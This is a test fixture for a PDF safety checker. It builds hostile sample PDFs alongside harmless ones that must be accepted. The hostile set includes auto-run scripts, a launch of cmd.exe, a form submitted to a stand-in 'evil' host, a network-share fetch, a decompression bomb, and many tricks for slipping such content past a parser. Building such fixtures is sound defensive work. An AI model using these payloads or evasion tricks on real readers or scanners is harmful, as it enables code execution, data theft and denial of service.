import { deflateSync } from 'node:zlib';
import { pdf } from '../../files.factory.ts';

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const PAGE = '<< /Type /Page >>';

/** A PDF of one page with an appended part, like an incremental update. */
function pdfOf(...parts: (string | Buffer)[]): Buffer {
  const chunks = [pdf(), ...parts, '\nstartxref\n0\n%%EOF\n'];
  return Buffer.concat(
    chunks.map((chunk) => (typeof chunk === 'string' ? Buffer.from(chunk, 'latin1') : chunk)),
  );
}

/** A PDF with one stream and the given dictionary. */
function streamPdf(dictionary: string, body: Buffer | string): Buffer {
  const bytes = Buffer.from(body);
  return pdfOf(
    `4 0 obj\n<< ${dictionary} /Length ${bytes.length} >>\nstream\n`,
    bytes,
    '\nendstream\nendobj\n',
  );
}

/** A script in a compressed object stream with the given `dictionary`. */
function packedPdf(dictionary: string, objects = SCRIPT): Buffer {
  return streamPdf(dictionary, deflateSync(Buffer.from(`7 0 ${objects}`)));
}

const OBJSTM = '/Type /ObjStm /N 1 /First 4';
const FLATE = '/Filter /FlateDecode';

/** PDFs with active, embedded or hidden content, each with a trick to get past the check. */
export const HOSTILE_PDFS: Record<string, Buffer> = {
  'a script': pdf(`/OpenAction ${SCRIPT} `),
  'a script in disguise': pdf('/OpenAction << /S /J#61vaScript /J#53 (x) >> '),
  'only the code of a script': pdf('/OpenAction << /JS 9 0 R >> '),
  'a script for a page': pdf(`/AA << /O ${SCRIPT} >> `),
  'scripts by name': pdf(`/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >> `),
  'a program to start': pdf('/OpenAction << /S /Launch /F (cmd.exe) >> '),
  'a program behind a comment': pdf('/OpenAction << /S%\n/Launch /F (cmd.exe) >> '),
  'a file of the network to open': pdf('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) >> '),
  'a form to send': pdf('/OpenAction << /S /SubmitForm /F (http://evil.test) >> '),
  'a form of another kind': pdf('/AcroForm << /XFA 9 0 R >> '),
  'a file inside': pdf('/Names << /EmbeddedFiles 4 0 R >> '),
  'a file inside, in disguise': pdf('/Names << /E#6dbeddedFiles 4 0 R >> '),
  'a file pinned to a page': pdf('/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>] '),
  'a portfolio': pdf('/Collection << >> '),
  'a film': pdf('/Annots [<< /Subtype /RichMedia >>] '),
  'a password': pdf('/Encrypt 5 0 R '),
  'a password in a hidden trailer': pdfOf('%trailer << /Root 1 0 R /Encrypt 5 0 R >>\n'),
  'a password in a hidden trailer, in disguise': pdfOf('%trailer << /#45ncrypt 5 0 R >>\n'),
  'a script in an update': Buffer.concat([
    pdf(),
    Buffer.from(`1 0 obj\n<< /OpenAction ${SCRIPT} >>\nendobj\ntrailer\n<< >>\n%%EOF\n`),
  ]),
  'a packed script': packedPdf(`${OBJSTM} ${FLATE}`),
  'a packed script in disguise': packedPdf(`${OBJSTM} ${FLATE}`, '<< /S /#4AavaScript >>'),
  'a packed script, its filter in a list': packedPdf(`${OBJSTM} /Filter [/FlateDecode]`),
  'packed objects in disguise': packedPdf(`/Type /Obj#53tm /N 1 /First 4 ${FLATE}`),
  'packed objects behind a comment': packedPdf(`/Type%\n/ObjStm /N 1 /First 4 ${FLATE}`),
  'packed objects without a type': packedPdf(`/N 1 /First 4 ${FLATE}`),
  'packed objects with two types': packedPdf(`/Type /XObject ${OBJSTM} ${FLATE}`),
  'packed objects whose type is elsewhere': packedPdf(`/Type 9 0 R /N 1 ${FLATE}`),
  'packed objects whose filter is elsewhere': packedPdf(`${OBJSTM} /Filter 9 0 R`),
  'packed objects with a prediction': packedPdf(`${OBJSTM} ${FLATE} /DecodeParms << /Predictor 12 >>`),
  'objects packed twice': streamPdf(
    `${OBJSTM} /Filter [/FlateDecode /FlateDecode]`,
    deflateSync(deflateSync(SCRIPT)),
  ),
  'objects packed in another way': streamPdf(
    `${OBJSTM} /Filter /ASCIIHexDecode`,
    `${Buffer.from(SCRIPT).toString('hex')}>`,
  ),
  'packed objects cut off': streamPdf(`${OBJSTM} ${FLATE}`, deflateSync(SCRIPT.repeat(99)).subarray(0, 20)),
  'an open stream of objects': streamPdf(OBJSTM, `7 0 ${SCRIPT}`),
  'packed objects behind a long dictionary': packedPdf(`${' '.repeat(9_000)}${OBJSTM} ${FLATE}`),
  'packed objects behind a hidden end': packedPdf(`/X (endobj) ${OBJSTM} ${FLATE}`),
  'a stream in another file': streamPdf('/F (evil.bin)', ''),
  'objects in a comment': pdfOf(`%7 0 obj ${PAGE} endobj\n4 0 obj\n${PAGE}\nendobj\n`),
  'objects in a string': pdfOf(`4 0 obj\n(7 0 obj ${PAGE} endobj)\nendobj\n`),
  'objects in a stream': streamPdf('', `7 0 obj ${PAGE} endobj`),
  'objects in a stream, behind a comment': streamPdf('', `7 0%\nobj<< >> endobj`),
  'objects in packed objects': packedPdf(`${OBJSTM} ${FLATE}`, '7 0 obj << >> endobj'),
  'a stream that tells a wrong length': pdfOf(
    `4 0 obj\n<< /Length 0 >>\nstream\nendstream endobj\n5 0 obj\n<< /Length 60 >>\nstream\nendstream\nendobj\n7 0 obj ${PAGE} endobj\nendstream\nendobj\n`,
  ),
  'a nest without end': pdfOf(`4 0 obj\n${'['.repeat(100_000)}\nendobj\n`),
  'a dictionary without end': pdfOf('4 0 obj\n<< /Type /Page\nendobj\n'),
  'a string without end': pdfOf('4 0 obj\n(abc\nendobj\n'),
  'a stream without end': pdfOf('4 0 obj\n<< >>\nstream\nabc\n'),
  'a page of a web site': pdfOf('<html><script>alert(1)</script></html>'),
  'a zip behind it': Buffer.concat([
    pdf(),
    Buffer.from('PK\x05\x06'),
    Buffer.alloc(18),
    Buffer.from('%%EOF'),
  ]),
  'a zip in it': pdfOf('4 0 obj\n<< >>\nstream\nPK\x03\x04PK\x05\x06\nendstream\nendobj\n'),
  'a bomb': streamPdf(`${OBJSTM} ${FLATE}`, deflateSync(Buffer.alloc(40 * 1024 * 1024))),
  'streams without end': Buffer.concat([
    Buffer.from('%PDF-1.4\n'),
    Buffer.alloc(9_000_000, ' obj stream\n'),
    Buffer.from('%%EOF'),
  ]),
  'its end cut off': pdf().subarray(0, 120),
  'something before it': Buffer.concat([Buffer.from('x'), pdf()]),
};

/** Valid PDFs of real PDF writers, which must be accepted. */
export const HARMLESS_PDFS: Record<string, Buffer> = {
  'one page': pdf(),
  'a link': pdf('/Annots [<< /Subtype /Link /A << /S /URI /URI (https://josey.example) >> >>] '),
  'a page to open at': pdf('/OpenAction [3 0 R /FitH null] '),
  'an update': Buffer.concat([
    pdf(),
    Buffer.from('3 0 obj\n<< /Type /Page >>\nendobj\nxref\n0 0\ntrailer\n<< >>\n%%EOF\n'),
  ]),
  'packed pages': packedPdf(`${OBJSTM} ${FLATE}`, PAGE),
  'a packed table': streamPdf(
    `/Type /XRef /W [1 2 1] /Size 3 /DecodeParms << /Predictor 12 >> ${FLATE}`,
    deflateSync('x'),
  ),
  'a length that is elsewhere': pdfOf(
    '4 0 obj\n<< /Length 5 0 R >>\nstream\r\nBT (x) Tj ET\nendstream\nendobj\n5 0 obj\n12\nendobj\n',
  ),
  'a picture that looks like keywords': streamPdf('/Filter /DCTDecode', 'stream << /JS (x) obj ( endobj'),
  'text about scripts': streamPdf('', 'BT (an obj card, /JS \\(x\\)) Tj ET'),
  'strings in strings': pdfOf('4 0 obj\n<< /Title (a (b) \\) c) /ID [<00ff> <>] >>\nendobj\n'),
  'comments of bytes': pdfOf('%\xe2\xe3\xcf\xd3\n4 0 obj % so it is\n<< >>\nendobj\n'),
  'odd numbers': pdfOf('4 0 obj\n[+1 -.5 4. 0 true false null]\nendobj\n'),
};
